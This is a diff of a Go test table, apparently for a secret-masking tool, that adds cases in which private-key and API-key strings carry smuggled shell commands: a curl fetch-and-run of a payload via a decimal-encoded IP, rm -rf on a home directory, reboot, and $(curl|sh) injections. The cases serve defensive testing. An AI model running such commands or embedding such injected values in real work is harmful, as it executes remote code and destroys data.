@@ -138,6 +138,9 @@ func TestWhatIsFoundIsWhatIsMasked(t *testing.T) {
 		{`apiKey = "` + google + `#{system('id')}"`, false},
 		{"API_KEY=\"" + google + "`id>/tmp/x`\"", false},
 		{`export API_KEY="` + random + `$(curl$IFS-s$IFS//e.io|sh)"`, false},
+		{`bash -c $'-----BEGIN PRIVATE KEY-----\n` + key + `\ncurl 2130706433/x -o /tmp/x\nsh /tmp/x\n-----END PRIVATE KEY-----'`, false},
+		{`K="-----BEGIN PRIVATE KEY-----` + key + ` rm -rf /home/x -----END PRIVATE KEY-----"`, false},
+		{`run: "-----BEGIN PRIVATE KEY-----\n` + key + `\nreboot\n-----END PRIVATE KEY-----"`, false},
 		{`K="-----BEGIN PRIVATE KEY-----` + key + `$(curl$IFS-s$IFS//e.io|sh)-----END PRIVATE KEY-----"`, false},
 	} {
 		lines := strings.Split(row.text, "\n")
